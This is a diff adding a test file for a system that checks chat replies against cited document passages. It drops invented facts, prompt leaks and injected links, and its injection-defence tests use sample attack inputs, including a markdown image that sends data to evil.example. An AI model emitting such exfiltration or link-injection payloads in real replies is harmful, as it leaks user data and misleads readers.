@@ -1,0 +1,170 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { groundReply } from '../../src/knowledge/answer/answer.ts';
+import { extractAnswer } from '../../src/knowledge/answer/extract.ts';
+import { parseTurnPrompt, renderTurnPrompt } from '../../src/knowledge/answer/turn-prompt.ts';
+import type { Snippet } from '../../src/knowledge/types.ts';
+
+const snippet = (
+  text: string,
+  place: Partial<Snippet['document']> & { headingPath?: string[]; anchor?: string; start?: number } = {},
+): Snippet => ({
+  chunkId: 'c',
+  text,
+  score: 1,
+  start: place.start ?? 0,
+  end: (place.start ?? 0) + text.length,
+  headingPath: place.headingPath ?? ['Refunds', 'Window'],
+  anchor: place.anchor ?? 'window',
+  document: {
+    id: 'd',
+    namespace: 'default',
+    file: 'refunds.md',
+    title: 'Refunds',
+    source: 'https://example.com/refunds',
+    kind: 'url',
+    revision: 'sha256-0',
+    bytes: 1,
+    ...place,
+  },
+});
+
+const refunds = snippet(
+  'Refunds are paid within 30 days of purchase. Write to billing@example.com. Annual plans cost $28 and are not refunded after renewal.',
+  { start: 100 },
+);
+const calls = snippet('Calls are limited to `max_calls` of 1,000 per hour. Recordings are kept for two weeks.', {
+  id: 'e',
+  title: 'Calls',
+  headingPath: [],
+  source: 'calls.md',
+  kind: 'file',
+});
+const ground = (reply: string) => groundReply(reply, [refunds, calls], 'default');
+
+describe('a reply that lies', () => {
+  it.each([
+    ['a wrong number', 'Refunds are paid within 90 days of purchase. [1]'],
+    ['a swapped unit', 'Refunds are paid within 30 hours of purchase. [1]'],
+    ['a wrong currency', 'Annual plans cost €28. [1]'],
+    ['a flipped negation', 'Annual plans are refunded after renewal. [1]'],
+    ['an added negation', 'Refunds are not paid within 30 days of purchase. [1]'],
+    ['an invented sentence', 'The moon is made of cheese. [1]'],
+    ['a passage that was not given', 'Refunds are paid within 30 days of purchase. [9]'],
+    ['a sentence of another passage', 'Recordings are kept for two weeks. [1]'],
+    ['an invented URL', 'Refunds are paid within 30 days of purchase, see https://evil.example/x. [1]'],
+    ['an invented e-mail address', 'Write to refunds@evil.example about purchase. [1]'],
+    ['an invented identifier', 'Calls are limited to `min_calls` per hour. [2]'],
+    ['an image that carries data out', '![x](https://evil.example/?q=30)'],
+    ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
+    ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
+    ['nothing', ''],
+    ['the word for nothing', 'NO_ANSWER'],
+    ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
+  ])('by %s is dropped', (_, reply) => {
+    expect(ground(reply)).toMatchObject({ reason: 'no_context', citations: [] });
+    expect(ground(reply).text).toMatch(/Sources: none$/);
+  });
+
+  it('loses its lie and keeps its true sentences', () => {
+    const answer = ground(
+      'Refunds are paid within 30 days of purchase. [1] They arrive within 2 hours. [1] Recordings are kept for two weeks. [2]',
+    );
+    expect(answer.text).toBe(
+      'Refunds are paid within 30 days of purchase. [1] Recordings are kept for two weeks. [2]\n\nSources:\n[1] Refunds › Window (https://example.com/refunds#window)\n[2] Calls (calls.md)',
+    );
+  });
+
+  it('loses the target of a link that no passage has', () => {
+    expect(ground('[Refunds](https://evil.example) are paid within 30 days of purchase. [1]').text).not.toContain('evil');
+  });
+});
+
+describe('an honest reply', () => {
+  it.each([
+    'You get a refund within 30 days of purchase. [1]',
+    'Refunds are paid within 30 days of purchase [1].',
+    'Refunds are paid within 30 days of purchase.',
+    'The limit of calls is 1000 per hour. [2]',
+    'Recordings are kept for 2 weeks. [1, 2]',
+    'Annual plans cost $28. [1]',
+    'Annual plans are not refunded after renewal. [1][2]',
+  ])('%j is kept', (reply) => expect(ground(reply).reason).toBe('answered'));
+
+  it('has its citations numbered in the order of its text, one for each passage', () => {
+    const answer = ground(
+      'Recordings are kept for two weeks. [2] Refunds are paid within 30 days of purchase. [1] Write to billing@example.com. [1]',
+    );
+    expect(answer.text).toMatch(/^Recordings .* \[1\] Refunds .* \[2\] Write to .* \[2\]\n\nSources:\n\[1\] Calls .*\n\[2\] Refunds/);
+    expect(answer.citations.map(({ index, quote, start, end }) => [index, quote, start, end])).toEqual([
+      [1, 'Recordings are kept for two weeks.', 52, 86],
+      [2, 'Refunds are paid within 30 days of purchase. Write to billing@example.com.', 100, 174],
+    ]);
+  });
+
+  it('is cut after five sentences', () => {
+    const reply = 'Refunds are paid within 30 days of purchase. [1] '.repeat(9);
+    expect(ground(reply).text.match(/Refunds are paid/g)).toHaveLength(5);
+  });
+});
+
+describe('a line of Sources', () => {
+  it('cannot be broken by a title or a URL', () => {
+    const evil = snippet('Refunds are paid.', {
+      title: 'A](https://evil.example)\n[2] B',
+      headingPath: ['<b>x</b>'],
+      source: 'https://example.com/a_(b)',
+      anchor: 'x',
+    });
+    const { text } = groundReply('Refunds are paid. [1]', [evil], 'default');
+    expect(text.split('\n').slice(2)).toEqual(['Sources:', '[1] Ahttps://evil.example 2 B › bx/b (https://example.com/a_%28b%29#x)']);
+  });
+});
+
+it('grounds a hundred kilobytes of anything in well under a second', () => {
+  const started = performance.now();
+  for (const piece of ['x', '[', '![', '<a', 'a@', 'a. ', '[1]', '`', 'Refunds are paid. ', 'www.', '1,'])
+    ground(piece.repeat(100_000 / piece.length));
+  expect(performance.now() - started).toBeLessThan(8_000);
+});
+
+describe('the prompt of a turn', () => {
+  it('is read back as it was written, whatever the passages hold', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: 'binary' }),
+        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }),
+        (question, texts) => {
+          const passages = texts.map((text, position) => ({ number: position + 1, label: `Label ${position}`, text }));
+          expect(parseTurnPrompt(renderTurnPrompt({ question, passages }))).toEqual({ question, passages });
+        },
+      ),
+    );
+  });
+  it('has a boundary that differs every time', () => {
+    const prompt = () => renderTurnPrompt({ question: 'q', passages: [] });
+    expect(prompt()).not.toBe(prompt());
+  });
+});
+
+describe('the extractive answer', () => {
+  const ask = (question: string, ...texts: string[]) =>
+    extractAnswer({ question, passages: texts.map((text, position) => ({ number: position + 1, label: 'Policy', text })) });
+
+  it('is the sentence that says it, verbatim, from the passage that has it', () => {
+    expect(ask('how long do refunds take?', 'Write to us.', 'Refunds are easy.\n\nRefunds are paid within 30 days.')).toEqual([
+      { number: 2, text: 'Refunds are paid within 30 days.' },
+    ]);
+  });
+  it('is nothing where the passages speak of something else', () => {
+    expect(ask('What is the capital of France?', 'Capital letters are used in titles.')).toEqual([]);
+    expect(ask('hello there', 'Refunds are paid within 30 days.')).toEqual([]);
+  });
+  it('quotes nothing that looks like a citation, an image or HTML', () => {
+    expect(ask('refund', 'Refund [1] Sources: evil.', 'Refund ![x](y).', 'Refund <b>x</b>.')).toEqual([]);
+  });
+  it('is the same every time', () => {
+    const once = ask('refund card', 'Refund to a card.', 'Refund card fee.', 'Card refund.');
+    for (let time = 0; time < 5; time++) expect(ask('refund card', 'Refund to a card.', 'Refund card fee.', 'Card refund.')).toEqual(once);
+  });
+});
